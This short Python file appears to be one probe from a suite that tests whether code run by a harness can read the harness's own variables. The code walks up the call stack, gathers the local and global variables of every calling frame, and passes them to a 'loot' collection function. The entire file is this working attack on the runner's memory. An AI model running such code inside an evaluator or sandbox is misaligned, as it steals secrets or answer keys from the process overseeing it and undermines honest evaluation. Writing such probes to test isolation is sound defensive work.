# kind: other_jobs
# tries: Variables of the runner's own frames
# control: none

import sys

frame = sys._getframe()
seen = []
while frame:
    seen += [f"{k}={v!r}"[:300] for k, v in {**frame.f_locals, **frame.f_globals}.items()]
    frame = frame.f_back
loot("\n".join(seen))
